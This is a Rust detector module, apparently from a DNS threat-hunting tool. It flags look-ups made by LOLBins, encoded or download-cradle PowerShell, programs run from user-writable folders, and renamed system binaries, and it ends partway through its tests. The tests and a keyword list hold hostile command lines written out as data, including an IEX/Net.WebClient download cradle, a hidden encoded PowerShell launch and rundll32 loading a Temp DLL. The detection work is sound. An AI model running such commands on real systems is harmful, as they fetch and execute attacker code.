//! # process_context
//!
//! **What:** DNS look-ups by processes that seldom resolve names, judged from the process
//! itself (joined with its EID 1 ProcessCreate on the host and ProcessGuid):
//! - `lolbin`: system binaries attackers use to run or fetch code (rundll32, regsvr32, mshta,
//!   certutil, bitsadmin, msiexec, installutil, regasm, regsvcs, wmic, cscript, wscript, ...;
//!   `data/windows_binaries.txt`);
//! - `lolbin_payload`: such a binary started with a URL, a UNC path or a file in a
//!   user-writable folder on its command line (`rundll32.exe C:\Users\x\AppData\Local\Temp\a.dll,Start`);
//! - `encoded_powershell`: PowerShell started with `-EncodedCommand` (or any of its
//!   abbreviations, `-enc`, `-e`, `-ec`);
//! - `download_cradle`: PowerShell whose command line downloads and runs code
//!   (`DownloadString`, `Net.WebClient`, `Invoke-WebRequest`, `IEX`, ...);
//! - `user_writable_path`: an image in `Downloads`, `Desktop`, `AppData\Local\Temp`,
//!   `Windows\Temp`, `Users\Public` or the root of `ProgramData` (medium), or elsewhere in
//!   `AppData` or `ProgramData` (low), except well-known per-user installs (OneDrive, Teams,
//!   `AppData\Local\Programs`, ...; `benign_paths`);
//! - `renamed`: the PE header's `OriginalFileName` differs from the image's file name — high
//!   when either name is a Windows binary (a renamed `powershell.exe`, a fake `svchost.exe`).
//!
//! One finding per process and reason; the evidence is the look-ups. The command line and
//! `OriginalFileName` come from EID 1, which may come after the look-ups (files are read in any
//! order): the earliest `max_pending_per_process` look-ups of a process whose EID 1 has not been
//! seen yet are kept and judged when it arrives (the others counted), for at most
//! `max_pending_processes` processes. A process's later look-ups are folded into its findings
//! in place (at most `max_processes` findings held so; past that each is built and merged).
//!
//! **Why:** the seed's point: knowing *which program* resolved a name is what turns a DNS log
//! into evidence. Stagers and implants run as LOLBins, encoded PowerShell or dropped files in
//! Temp and Downloads, and malware renames system tools to blend in.
//!
//! **ATT&CK:** T1218 (System Binary Proxy Execution, with the sub-technique of the binary),
//! T1059.001 (PowerShell), T1105 (Ingress Tool Transfer) for download cradles, T1204.002
//! (User Execution: Malicious File) for user-writable paths, T1036.003 (Masquerading: Rename
//! System Utilities) for renamed binaries.
//!
//! **False positives:** software installers run from Downloads or Temp, msiexec during
//! installs, per-user apps in AppData that are not in `benign_paths`, admin scripts that use
//! `-EncodedCommand` (some management agents do), and binaries whose vendor renamed them
//! (the Windows and Edge ones seen in real logs are listed in `shipped_names`).

use dnshunt_core::{evidence_order, image_file_name, BoundReached, Detector, Event, EventKind, Finding, Guid, Severity};
use serde::Deserialize;

use crate::fast::{HashMap, HashSet};
use crate::repeats::Repeats;
use crate::stats::{host, host_key_hash, key_hash, pattern_score};

const WINDOWS_BINARIES: &str = include_str!("../../data/windows_binaries.txt");

/// Settings of the `process_context` detector.
#[derive(Clone, Debug, Deserialize, serde::Serialize, PartialEq)]
#[serde(deny_unknown_fields, default)]
pub struct ProcessContextConfig {
    /// More LOLBin image names (lower case, e.g. `mytool.exe`), judged at `lolbin_severity`.
    pub extra_lolbins: Vec<String>,
    /// Image names that are never judged as LOLBins (e.g. `msiexec.exe` where software is
    /// deployed all day).
    pub ignore_lolbins: Vec<String>,
    /// Severity of a look-up by a LOLBin listed without its own severity.
    pub lolbin_severity: Severity,
    /// Severity of a LOLBin with a URL, UNC path or user-writable file on its command line.
    pub lolbin_payload_severity: Severity,
    /// Severity of PowerShell with an encoded command.
    pub encoded_powershell_severity: Severity,
    /// Severity of PowerShell with a download cradle.
    pub download_cradle_severity: Severity,
    /// Severity of an image in Downloads, Desktop, Temp, Users\Public or the ProgramData root.
    pub temp_path_severity: Severity,
    /// Severity of an image elsewhere in AppData or ProgramData.
    pub appdata_path_severity: Severity,
    /// Folders (lower case, backslashes, matched anywhere in the path) of well-known per-user
    /// software, never judged as user-writable.
    pub benign_paths: Vec<String>,
    /// Severity of a renamed Windows binary (or a binary named like one).
    pub renamed_system_severity: Severity,
    /// Severity of any other binary whose `OriginalFileName` differs from its file name.
    pub renamed_other_severity: Severity,
    /// `image=OriginalFileName` pairs that ship that way (`gpresult.exe=gprslt.exe`): not
    /// renames. Only the exact pair is accepted, so a renamed PowerShell called `gpresult.exe`
    /// (its header says `PowerShell.EXE`) is still found.
    pub shipped_names: Vec<String>,
    /// Look-ups kept per process while its EID 1 has not been seen.
    pub max_pending_per_process: usize,
    /// Processes whose look-ups wait for their EID 1, at most.
    pub max_pending_processes: usize,
    /// Processes remembered from EID 1, at most.
    pub max_processes: usize,
}

impl Default for ProcessContextConfig {
    fn default() -> Self {
        let benign = [
            "\\appdata\\local\\microsoft\\onedrive\\",
            "\\appdata\\local\\microsoft\\teams\\",
            "\\appdata\\local\\microsoft\\windowsapps\\",
            "\\appdata\\local\\microsoft\\edge",
            "\\appdata\\local\\programs\\",
            "\\appdata\\local\\google\\chrome\\",
            "\\appdata\\local\\mozilla firefox\\",
            "\\appdata\\roaming\\zoom\\",
            "\\appdata\\local\\slack\\",
            "\\appdata\\local\\discord\\",
            "\\appdata\\roaming\\spotify\\",
            "\\appdata\\local\\webex\\",
            "\\programdata\\microsoft\\windows defender\\",
            "\\programdata\\microsoft\\windows defender advanced threat protection\\",
        ];
        ProcessContextConfig {
            extra_lolbins: Vec::new(),
            ignore_lolbins: Vec::new(),
            lolbin_severity: Severity::Medium,
            lolbin_payload_severity: Severity::High,
            encoded_powershell_severity: Severity::High,
            download_cradle_severity: Severity::High,
            temp_path_severity: Severity::Medium,
            appdata_path_severity: Severity::Low,
            benign_paths: benign.iter().map(|s| (*s).to_owned()).collect(),
            renamed_system_severity: Severity::High,
            renamed_other_severity: Severity::Low,
            shipped_names: [
                "gpresult.exe=gprslt.exe",
                "schtasks.exe=sctasks.exe",
                "nltest.exe=nltestrk.exe",
                "microsoftedgeupdate.exe=msedgeupdate.dll",
            ]
            .map(str::to_owned)
            .to_vec(),
            max_pending_per_process: 5,
            max_pending_processes: 20_000,
            max_processes: 500_000,
        }
    }
}

/// Why a process's look-ups are suspicious.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
pub enum Reason {
    Lolbin,
    LolbinPayload,
    EncodedPowershell,
    DownloadCradle,
    UserWritablePath,
    Renamed,
}

impl Reason {
    pub fn as_str(self) -> &'static str {
        match self {
            Reason::Lolbin => "lolbin",
            Reason::LolbinPayload => "lolbin_payload",
            Reason::EncodedPowershell => "encoded_powershell",
            Reason::DownloadCradle => "download_cradle",
            Reason::UserWritablePath => "user_writable_path",
            Reason::Renamed => "renamed",
        }
    }
}

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Kind {
    Lolbin(Option<Severity>),
    Shell,
    System,
}

/// What EID 1 told us about a process.
#[derive(Clone, Debug)]
struct ProcInfo {
    image: Option<std::sync::Arc<str>>,
    command_line: Option<String>,
    original_file_name: Option<String>,
    /// `command_line` in lower case, made once (a process makes many look-ups).
    command_line_lower: Option<String>,
    /// What it says, made once when the EID 1 names the image.
    verdict: Option<InfoVerdict>,
}

/// What a process's EID 1 says (`ProcessContext::info_verdict`).
#[derive(Clone, Debug)]
struct InfoVerdict {
    /// The image's lower-case file name.
    name: String,
    encoded_command: bool,
    cradle: Option<&'static str>,
    payload: Option<&'static str>,
    /// Renamed: whether a system binary's name is involved.
    renamed: Option<bool>,
}

impl ProcInfo {
    fn new(image: Option<std::sync::Arc<str>>, command_line: Option<String>, original_file_name: Option<String>) -> ProcInfo {
        let command_line_lower = command_line.as_deref().map(str::to_lowercase);
        ProcInfo {
            image,
            command_line,
            original_file_name,
            command_line_lower,
            verdict: None,
        }
    }
}

/// What the image path alone says (`judge_image`), remembered per path.
#[derive(Clone, Debug)]
struct ImageVerdict {
    /// The lower-case file name.
    name: String,
    /// A LOLBin, and its severity when it has its own.
    lolbin: Option<Option<Severity>>,
    /// The user-writable folder it runs from (and whether Temp-like), unless a benign path.
    writable: Option<(&'static str, bool)>,
}

/// Image paths whose verdict is remembered; past it the memo starts over.
const MAX_IMAGE_VERDICTS: usize = 10_000;

#[derive(Debug, Default)]
struct Pending {
    events: Vec<Event>,
    /// Look-ups beyond the ones kept.
    more: u64,
}

/// A process: its host's key (hashed) and its ProcessGuid.
type ProcKey = (u64, Guid);

/// Longest command line kept per process (the rest is not needed to judge it).
const MAX_COMMAND_LINE: usize = 8192;

/// Download-and-run idioms of PowerShell command lines (lower case).
const CRADLES: &[&str] = &[
    "downloadstring",
    "downloadfile",
    "downloaddata",
    "net.webclient",
    "invoke-webrequest",
    "invoke-restmethod",
    "start-bitstransfer",
    "invoke-expression",
    "iex(",
    "iex ",
    "|iex",
    "| iex",
    "iwr ",
    "irm ",
    "frombase64string",
    "msxml2.xmlhttp",
    "winhttp.winhttprequest",
];

/// Certificate revocation and trust-list hosts. Windows checks signatures in-process, so any
/// binary, a LOLBin included, may fetch a CRL or OCSP answer while loading signed code.
const PKI_DOMAINS: &[&str] = &[
    "ctldl.windowsupdate.com",
    "crl.microsoft.com",
    "oneocsp.microsoft.com",
    "digicert.com",
    "verisign.com",
    "symcd.com",
    "symcb.com",
    "globalsign.com",
    "globalsign.net",
    "sectigo.com",
    "comodoca.com",
    "usertrust.com",
    "letsencrypt.org",
    "lencr.org",
    "pki.goog",
    "amazontrust.com",
    "godaddy.com",
    "entrust.net",
    "identrust.com",
    "thawte.com",
    "geotrust.com",
    "rapidssl.com",
    "ss2.us",
    "trustwave.com",
];

/// The ATT&CK sub-technique of System Binary Proxy Execution for a binary.
fn proxy_technique(image: &str) -> &'static str {
    match image {
        "rundll32.exe" => "T1218.011",
        "regsvr32.exe" => "T1218.010",
        "mshta.exe" => "T1218.005",
        "msiexec.exe" => "T1218.007",
        "installutil.exe" => "T1218.004",
        "regasm.exe" | "regsvcs.exe" => "T1218.009",
        "cmstp.exe" => "T1218.003",
        "odbcconf.exe" => "T1218.008",
        "control.exe" => "T1218.002",
        "mavinject.exe" => "T1218.013",
        "hh.exe" => "T1218.001",
        _ => "T1218",
    }
}

/// The file name without any extension (`pwsh.dll` and `pwsh.exe` are both `pwsh`) and without
/// an architecture ending (`PsExec64.exe` says `psexec.c`, `procexp64.exe` says `procexp.exe`).
fn stem(name: &str) -> &str {
    let s = name.split('.').next().unwrap_or(name);
    ["_x64", "-x64", "x64", "_x86", "-x86", "x86", "64", "32"]
        .iter()
        .find_map(|end| s.strip_suffix(end).filter(|rest| rest.len() >= 3))
        .unwrap_or(s)
}

/// The user-writable folder an image (or a path on a command line) is in, with how suspicious
/// it is: `Some((folder, true))` for Temp-like folders, `Some((folder, false))` for AppData and
/// ProgramData.
fn writable_folder(path_lower: &str) -> Option<(&'static str, bool)> {
    if let Some((_, name)) = crate::stats::TEMP_LIKE_FOLDERS.iter().find(|(p, _)| path_lower.contains(p)) {
        return Some((name, true));
    }
    if let Some(i) = path_lower.find("\\programdata\\") {
        // A program directly in the ProgramData root is a dropper's habit; vendors use subfolders.
        let rest = &path_lower[i + "\\programdata\\".len()..];
        return Some(("ProgramData", !rest.contains('\\')));
    }
    if path_lower.contains("\\appdata\\") {
        return Some(("AppData", false));
    }
    None
}

/// Whether a PowerShell command line carries `-EncodedCommand` in any accepted spelling.
fn has_encoded_command(command_line: &str) -> bool {
    command_line.split_whitespace().any(|token| {
        let Some(first) = token.chars().next() else { return false };
        // PowerShell also accepts `/` and the dashes attackers use to dodge string matches.
        if !matches!(first, '-' | '/' | '\u{2013}' | '\u{2014}' | '\u{2015}') {
            return false;
        }
        let flag = token[first.len_utf8()..].trim_matches('"').to_ascii_lowercase();
        flag == "e" || flag == "ec" || (flag.len() >= 3 && "encodedcommand".starts_with(&flag))
    })
}

/// What a LOLBin's command line points at that it should not: a URL, a UNC path or a file in a
/// user-writable folder.
fn payload_reference(command_line_lower: &str) -> Option<&'static str> {
    if command_line_lower.contains("http://") || command_line_lower.contains("https://") || command_line_lower.contains("ftp://") {
        return Some("a URL");
    }
    if command_line_lower.split_whitespace().any(|t| t.trim_start_matches(['"', '\'']).starts_with("\\\\")) {
        return Some("a UNC path");
    }
    if let Some((folder, _)) = writable_folder(command_line_lower) {
        return Some(match folder {
            "AppData\\Local\\Temp" | "Windows\\Temp" => "a file in a Temp folder",
            "Downloads" => "a file in Downloads",
            "Desktop" => "a file on the Desktop",
            "Users\\Public" => "a file in Users\\Public",
            "ProgramData" => "a file in ProgramData",
            "AppData" => "a file in AppData",
            _ => "a file in a user-writable folder",
        });
    }
    None
}

/// The detector.
pub struct ProcessContext {
    config: ProcessContextConfig,
    binaries: HashMap<String, Kind>,
    /// `shipped_names` as lower-case (image, OriginalFileName) pairs.
    shipped: Vec<(String, String)>,
    /// By host (its key's hash) and ProcessGuid: a GUID names a process on one host.
    procs: HashMap<ProcKey, ProcInfo>,
    /// [`host_key_hash`] by the [`key_hash`] of the host as written.
    host_keys: crate::fast::Memo<u64, 4096>,
    pending: HashMap<ProcKey, Pending>,
    /// Look-ups that could not wait for their EID 1 because `max_pending_processes` was reached.
    pub dropped_pending: u64,
    /// `judge_image`'s verdict per image path (at most [`MAX_IMAGE_VERDICTS`]).
    images: crate::fast::Memo<ImageVerdict, MAX_IMAGE_VERDICTS>,
    /// Processes not remembered past `max_processes`.
    over_processes: u64,
    /// The findings so far, each folding its process's later lookups.
    repeats: Repeats<u64>,
}

impl ProcessContext {
    pub const NAME: &'static str = "process_context";

    pub fn new(mut config: ProcessContextConfig) -> ProcessContext {
        let mut binaries = HashMap::default();
        for line in WINDOWS_BINARIES.lines() {
            let mut parts = line.split_whitespace();
            let (Some(name), Some(kind)) = (parts.next(), parts.next()) else { continue };
            if name.starts_with('#') {
                continue;
            }
            let kind = match kind {
                "lolbin" => Kind::Lolbin(parts.next().and_then(|s| s.parse().ok())),
                "shell" => Kind::Shell,
                _ => Kind::System,
            };
            binaries.insert(name.to_lowercase(), kind);
        }
        for name in &config.extra_lolbins {
            binaries.insert(name.to_lowercase(), Kind::Lolbin(None));
        }
        for name in &config.ignore_lolbins {
            if let Some(Kind::Lolbin(_)) = binaries.get(&name.to_lowercase()) {
                binaries.insert(name.to_lowercase(), Kind::System);
            }
        }
        for p in &mut config.benign_paths {
            *p = p.to_lowercase().replace('/', "\\");
        }
        let shipped = config
            .shipped_names
            .iter()
            .filter_map(|pair| pair.split_once('='))
            .map(|(image, original)| (image.trim().to_lowercase(), original.trim().to_lowercase()))
            .collect();
        let repeats = Repeats::new(config.max_processes, 5);
        ProcessContext {
            config,
            binaries,
            shipped,
            procs: HashMap::default(),
            host_keys: Default::default(),
            pending: HashMap::default(),
            dropped_pending: 0,
            images: Default::default(),
            over_processes: 0,
            repeats,
        }
    }

    /// Gives the finding of `reason` for `event`'s process: built (with `details`) the first
    /// time, folded into the first afterwards (a process's every lookup says the same).
    #[allow(clippy::too_many_arguments)]
    fn emit(
        repeats: &mut Repeats<u64>,
        out: &mut Vec<Finding>,
        event: &Event,
        reason: Reason,
        severity: Severity,
        attack: &[&str],
        explain: impl FnOnce() -> String,
        details: impl FnOnce(Finding) -> Finding,
    ) {
        let process = event.process();
        let mut buf = [0; 38];
        let who = match (process.guid, process.image.as_deref()) {
            (Some(guid), _) => guid.text(&mut buf),
            (None, Some(image)) => image,
            (None, None) => "",
        };
        // The finding's id, as `Finding::from_event` makes it.
        let id = Finding::id_hash(Self::NAME, event.host.as_deref().unwrap_or(""), &[who, reason.as_str()]);
        let score = pattern_score(severity);
        let build = |explanation| {
            details(
                Finding::from_event(Self::NAME, severity, score, event, &[who, reason.as_str()], explanation)
                    .with_attack(attack)
                    .with_detail("reason", reason.as_str()),
            )
        };
        repeats.add(&id, event, (severity, score), explain, build, out);
    }

    /// The verdict on `image` (a path), worked out once per path and then looked up: `None`
    /// when it says nothing (most images).
    fn image_verdict(&mut self, image: &str) -> Option<&ImageVerdict> {
        let (binaries, benign_paths) = (&self.binaries, &self.config.benign_paths);
        let verdict = self.images.get_or_insert_with(key_hash(image), || {
            let name = image_file_name(image);
            let lolbin = match binaries.get(&name) {
                Some(Kind::Lolbin(sev)) => Some(*sev),
                _ => None,
            };
            let lower = image.to_lowercase().replace('/', "\\");
            let writable = if benign_paths.iter().any(|p| lower.contains(p.as_str())) {
                None
            } else {
                writable_folder(&lower)
            };
            ImageVerdict { name, lolbin, writable }
        });
        Some(verdict).filter(|v| v.lolbin.is_some() || v.writable.is_some())
    }

    /// [`host_key_hash`] of the event's host, remembered per host as written (a fleet has few
    /// hosts; at most 4,096, then started over).
    fn host_key(&mut self, event: &Event) -> u64 {
        let raw = host(event);
        *self.host_keys.get_or_insert_with(key_hash(raw), || host_key_hash(raw))
    }

    /// Reasons that the image path alone gives.
    fn judge_image(&mut self, repeats: &mut Repeats<u64>, event: &Event, out: &mut Vec<Finding>) {
        let Some(image) = event.process().image.as_deref() else { return };
        let Some(q) = event.dns() else { return };
        let lolbin_severity = self.config.lolbin_severity;
        let (temp_path_severity, appdata_path_severity) = (self.config.temp_path_severity, self.config.appdata_path_severity);
        let Some(verdict) = self.image_verdict(image) else { return };
        let name = &verdict.name;
        if let Some(sev) = verdict.lolbin {
            let mut severity = sev.unwrap_or(lolbin_severity);
            let pki = q.query.self_and_parents().any(|p| PKI_DOMAINS.contains(&p));
            if pki {
                // A revocation check alone says little; any other name raises the finding (it
                // merges, and the highest severity stands).
                severity = severity.min(Severity::Low);
            }
            let explain = || {
                format!(
                    "{name} looked up {}; {name} is a Windows binary that attackers use to run or fetch their code (a LOLBin) and that seldom resolves names itself{}",
                    q.query,
                    if pki { " (this name is a certificate check, which any binary may make)" } else { "" }
                )
            };
            Self::emit(repeats, out, event, Reason::Lolbin, severity, &[proxy_technique(name)], explain, |f| {
                f.with_detail("binary", name.clone())
            });
        }
        if let Some((folder, temp_like)) = verdict.writable {
            let severity = if temp_like { temp_path_severity } else { appdata_path_severity };
            let explain = || {
                format!(
                    "{name} looked up {}; it runs from {folder}, a user-writable folder where downloaded and dropped programs live",
                    q.query
                )
            };
            Self::emit(repeats, out, event, Reason::UserWritablePath, severity, &["T1204.002"], explain, |f| {
                f.with_detail("folder", folder).with_detail("image", image)
            });
        }
    }

    /// What a process's EID 1 says, for its image file name `name`: worked out once per
    /// process (a process makes many lookups).
    fn info_verdict(&self, info: &ProcInfo, name: String) -> InfoVerdict {
        let kind = self.binaries.get(&name).copied();
        let mut v = InfoVerdict {
            encoded_command: false,
            cradle: None,
            payload: None,
            renamed: None,
            name,
        };
        let name = &v.name;
        if let (Some(cl), Some(lower)) = (info.command_line.as_deref(), info.command_line_lower.as_deref()) {
            if kind == Some(Kind::Shell) {
                v.encoded_command = has_encoded_command(cl);
                v.cradle = CRADLES.iter().find(|c| lower.contains(*c)).map(|c| c.trim());
            }
            if let Some(Kind::Lolbin(_)) = kind {
                // Skip the program's own path, which may itself sit in a user-writable folder.
                let args = lower
                    .strip_prefix('"')
                    .and_then(|rest| rest.split_once('"'))
                    .map_or_else(|| lower.split_once(char::is_whitespace).map_or("", |(_, rest)| rest), |(_, rest)| rest);
                v.payload = payload_reference(args);
            }
        }
        if let Some(ofn) = info.original_file_name.as_deref() {
            let ofn_lower = ofn.trim().to_lowercase();
            let ofn_lower = ofn_lower.strip_suffix(".mui").unwrap_or(&ofn_lower);
            let shipped = || self.shipped.iter().any(|(image, original)| image.eq_ignore_ascii_case(name) && original == ofn_lower);
            if !name.is_empty() && !ofn_lower.is_empty() && !matches!(ofn_lower, "-" | "?") && stem(ofn_lower) != stem(name) && !shipped() {
                let known = |n: &str| self.binaries.contains_key(n) || self.binaries.keys().any(|k| stem(k) == stem(n));
                v.renamed = Some(known(ofn_lower) || known(name));
            }
        }
        v
    }

    /// Reasons that need the process's EID 1.
    fn judge_with_info(&self, repeats: &mut Repeats<u64>, event: &Event, info: &ProcInfo, out: &mut Vec<Finding>) {
        let Some(q) = event.dns() else { return };
        let made;
        let v = match &info.verdict {
            Some(v) => v,
            None => {
                made = self.info_verdict(info, event.process().image_name().unwrap_or_default());
                &made
            }
        };
        let name = &v.name;
        if v.encoded_command {
            let explain = || {
                format!(
                    "{name} looked up {}; it was started with an encoded command (-EncodedCommand), which hides the script from the command line",
                    q.query
                )
            };
            let severity = self.config.encoded_powershell_severity;
            Self::emit(repeats, out, event, Reason::EncodedPowershell, severity, &["T1059.001", "T1027"], explain, |f| f);
        }
        if let Some(token) = v.cradle {
            let explain = || format!("{name} looked up {}; its command line downloads and runs code ({token})", q.query);
            let severity = self.config.download_cradle_severity;
            Self::emit(repeats, out, event, Reason::DownloadCradle, severity, &["T1059.001", "T1105"], explain, |f| {
                f.with_detail("cradle", token)
            });
        }
        if let Some(what) = v.payload {
            let explain = || {
                format!(
                    "{name} looked up {}; it was started with {what} on its command line, the shape of a proxied payload",
                    q.query
                )
            };
            let severity = self.config.lolbin_payload_severity;
            Self::emit(repeats, out, event, Reason::LolbinPayload, severity, &[proxy_technique(name)], explain, |f| {
                f.with_detail("binary", name.clone()).with_detail("payload", what)
            });
        }
        if let (Some(system), Some(ofn)) = (v.renamed, info.original_file_name.as_deref()) {
            let severity = if system {
                self.config.renamed_system_severity
            } else {
                self.config.renamed_other_severity
            };
            let explain = || {
                format!(
                    "{name} looked up {}; its PE header names it {ofn}: {}",
                    q.query,
                    if system { "a renamed or impersonated Windows binary" } else { "the file was renamed" }
                )
            };
            Self::emit(repeats, out, event, Reason::Renamed, severity, &["T1036.003"], explain, |f| {
                f.with_detail("original_file_name", ofn).with_detail("image_name", name.clone())
            });
        }
    }

    fn remember(&mut self, guid: ProcKey, mut info: ProcInfo, out: &mut Vec<Finding>) {
        info.verdict = info.image.as_deref().map(|image| self.info_verdict(&info, image_file_name(image)));
        if let Some(pending) = self.pending.remove(&guid) {
            let start = out.len();
            // Built whole and given at once, so the lookups not kept can be added to each.
            let mut direct = Repeats::new(0, 1);
            for event in &pending.events {
                self.judge_with_info(&mut direct, event, &info, out);
            }
            // Look-ups beyond the kept ones still count.
            if pending.more > 0 {
                let mut seen = HashSet::default();
                for f in out[start..].iter_mut().rev() {
                    if seen.insert(f.id.clone()) {
                        f.count += pending.more;
                    }
                }
            }
        }
        if self.procs.len() < self.config.max_processes || self.procs.contains_key(&guid) {
            self.procs.insert(guid, info);
        } else {
            self.over_processes += 1;
        }
    }
}

impl Detector for ProcessContext {
    fn name(&self) -> &'static str {
        Self::NAME
    }

    fn bounds_reached(&self) -> Vec<BoundReached> {
        BoundReached::all([
            BoundReached::of(Self::NAME, "max_processes", self.config.max_processes, self.over_processes),
            BoundReached::of(Self::NAME, "max_pending_processes", self.config.max_pending_processes, self.dropped_pending),
        ])
    }

    fn observe(&mut self, event: &Event, out: &mut Vec<Finding>) {
        match &event.kind {
            EventKind::ProcessCreate(pc) => {
                let Some(guid) = pc.process.guid else { return };
                let guid = (self.host_key(event), guid);
                let info = ProcInfo::new(
                    pc.process.image.clone(),
                    pc.command_line.as_ref().map(|c| {
                        let mut end = c.len().min(MAX_COMMAND_LINE);
                        while !c.is_char_boundary(end) {
                            end -= 1;
                        }
                        c[..end].to_owned()
                    }),
                    pc.original_file_name.clone(),
                );
                self.remember(guid, info, out);
            }
            EventKind::DnsQuery(_) => {
                let mut repeats = std::mem::take(&mut self.repeats);
                self.judge_image(&mut repeats, event, out);
                let key = event.process().guid.map(|guid| (self.host_key(event), guid));
                let known = key.and_then(|key| self.procs.get(&key));
                if let Some(info) = known {
                    self.judge_with_info(&mut repeats, event, info, out);
                }
                self.repeats = repeats;
                let Some(guid) = key else { return };
                if known.is_some() {
                    return;
                }
                if !self.pending.contains_key(&guid) && self.pending.len() >= self.config.max_pending_processes {
                    self.dropped_pending += 1;
                    return;
                }
                // The earliest are kept (the evidence, whatever the read order), the rest
                // counted.
                let pending = self.pending.entry(guid).or_default();
                if pending.events.len() < self.config.max_pending_per_process {
                    pending.events.push(event.clone());
                } else {
                    pending.more += 1;
                    let latest = pending
                        .events
                        .iter()
                        .enumerate()
                        .max_by(|a, b| evidence_order(a.1).cmp(&evidence_order(b.1)))
                        .map(|(i, _)| i);
                    if let Some(i) = latest.filter(|&i| crate::stats::is_earlier(event, &pending.events[i])) {
                        pending.events[i] = event.clone();
                    }
                }
            }
            _ => {}
        }
    }

    fn set_max_evidence(&mut self, max_evidence: usize) {
        self.repeats.set_max_evidence(max_evidence);
    }

    fn finish(&mut self, out: &mut dyn dnshunt_core::FindingSink) {
        self.repeats.drain(out);
        // Look-ups whose process never had an EID 1 were judged by their image alone.
        self.pending.clear();
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detectors::tests::dns;
    use dnshunt_core::{ProcessCreate, ProcessRef};

    const GUID: &str = "{22052e76-6f9d-5d13-0000-0010d31f0c00}";

    fn lookup(image: &str, name: &str) -> Event {
        let mut e = dns(name, "-");
        if let EventKind::DnsQuery(q) = &mut e.kind {
            q.process.image = Some(image.into());
        }
        e
    }

    fn create(image: &str, command_line: &str, ofn: &str) -> Event {
        let mut e = dns("x.example", "-");
        e.kind = EventKind::ProcessCreate(Box::new(ProcessCreate {
            process: ProcessRef {
                guid: Guid::parse(GUID),
                pid: Some(6484),
                image: Some(image.into()),
                user: None,
            },
            command_line: Some(command_line.into()),
            original_file_name: Some(ofn.into()),
            ..Default::default()
        }));
        e
    }

    fn run(config: ProcessContextConfig, events: &[Event]) -> Vec<(String, Severity, u64)> {
        let mut engine = crate::Engine::new(crate::EngineConfig::default(), vec![Box::new(ProcessContext::new(config))]);
        for e in events {
            engine.observe(e);
        }
        let (findings, _) = engine.finish();
        let mut got: Vec<(String, Severity, u64)> = findings.iter().map(|f| (f.details["reason"].as_str().unwrap().to_owned(), f.severity, f.count)).collect();
        got.sort();
        got
    }

    #[track_caller]
    fn check(events: &[Event], expected: &[(&str, Severity, u64)]) {
        let got = run(ProcessContextConfig::default(), events);
        let mut expected: Vec<(String, Severity, u64)> = expected.iter().map(|(r, s, n)| ((*r).to_owned(), *s, *n)).collect();
        expected.sort();
        assert_eq!(got, expected);
        // Files come in any order: EID 1 after the look-ups must give the same result.
        let mut reversed = events.to_vec();
        reversed.reverse();
        assert_eq!(run(ProcessContextConfig::default(), &reversed), expected, "reversed order");
    }

    const RUNDLL: &str = "C:\\Windows\\System32\\rundll32.exe";
    const PS: &str = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";

    #[test]
    fn incident_rundll32_with_temp_dll() {
        check(
            &[
                create(
                    RUNDLL,
                    "\"C:\\Windows\\System32\\rundll32.exe\" C:\\Users\\k.sato\\AppData\\Local\\Temp\\wupd64.dll,Start",
                    "RUNDLL32.EXE",
                ),
                lookup(RUNDLL, "api.update-cdn-sync.com"),
                lookup(RUNDLL, "api.update-cdn-sync.com"),
                lookup(RUNDLL, "dns.google"),
            ],
            &[("lolbin", Severity::Medium, 3), ("lolbin_payload", Severity::High, 3)],
        );
    }

    #[test]
    fn incident_encoded_powershell() {
        check(
            &[
                create(PS, "\"powershell.exe\" -nop -w hidden -enc JABlAD0AJwBoAHQAdABw", "PowerShell.EXE"),
                lookup(PS, "static.docview-static.net"),
            ],
            &[("encoded_powershell", Severity::High, 1)],
        );
        check(
            &[
                create(
                    PS,
                    "powershell -c \"IEX (New-Object Net.WebClient).DownloadString('https://x.example/a')\"",
                    "PowerShell.EXE",
                ),
                lookup(PS, "x.example"),
            ],
            &[("download_cradle", Severity::High, 1)],
        );
        assert!(has_encoded_command("powershell /e JAB"));
        assert!(has_encoded_command("powershell \u{2013}EncodedCommand JAB"));
        assert!(has_encoded_command("pwsh -EncodedC JAB"));
        assert!(!has_encoded_command("powershell -ExecutionPolicy Bypass -File x.ps1"));
        assert!(!has_encoded_command("powershell -ex bypass"));
    }

    #[test]
    fn user_writable_paths() {
        check(
            &[lookup("C:\\Users\\k.sato\\Downloads\\tool.exe", "c2.example")],
            &[("user_writable_path", Severity::Medium, 1)],
        );
        check(&[lookup("C:\\ProgramData\\updater.exe", "c2.example")], &[("user_writable_path", Severity::Medium, 1)]);
        check(
            &[lookup("C:\\Users\\k.sato\\AppData\\Roaming\\Vendor\\agent.exe", "api.vendor.example")],
            &[("user_writable_path", Severity::Low, 1)],
        );
        check(&[lookup("C:\\Users\\k.sato\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe", "g.live.com")], &[]);
        check(
            &[lookup(
                "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.2008.9-0\\MsMpEng.exe",
                "go.microsoft.com",
            )],
            &[],
        );
    }

    #[test]
    fn renamed_binaries() {
        let fake = "C:\\Users\\Public\\svchost.exe";
        check(
            &[create(fake, fake, "PowerShell.EXE"), lookup(fake, "c2.example")],
            &[("renamed", Severity::High, 1), ("user_writable_path", Severity::Medium, 1)],
        );
        let app = "C:\\Program Files\\Vendor\\agent.exe";
        check(&[create(app, app, "vendor-agent.exe"), lookup(app, "api.vendor.example")], &[("renamed", Severity::Low, 1)]);
        // PowerShell 7 says `pwsh.dll`; `.mui` and case differences are not renames.
        let pwsh = "C:\\Program Files\\PowerShell\\7\\pwsh.exe";
        check(&[create(pwsh, pwsh, "pwsh.dll"), lookup(pwsh, "www.powershellgallery.com")], &[]);
        check(&[create(PS, "powershell.exe", "PowerShell.EXE.MUI"), lookup(PS, "www.example.com")], &[]);
        check(&[create(app, app, "-"), lookup(app, "api.vendor.example")], &[]);
        // Windows and Edge ship these under other internal names; the exact pair only.
        let gpresult = "C:\\Windows\\system32\\gpresult.exe";
        check(&[create(gpresult, gpresult, "gprslt.exe"), lookup(gpresult, "dc01.corp.example")], &[]);
        let update = "C:\\Program Files (x86)\\Microsoft\\EdgeUpdate\\MicrosoftEdgeUpdate.exe";
        check(&[create(update, update, "msedgeupdate.dll"), lookup(update, "msedge.api.cdp.microsoft.com")], &[]);
        check(
            &[create(gpresult, gpresult, "PowerShell.EXE"), lookup(gpresult, "c2.example")],
            &[("renamed", Severity::High, 1)],
        );
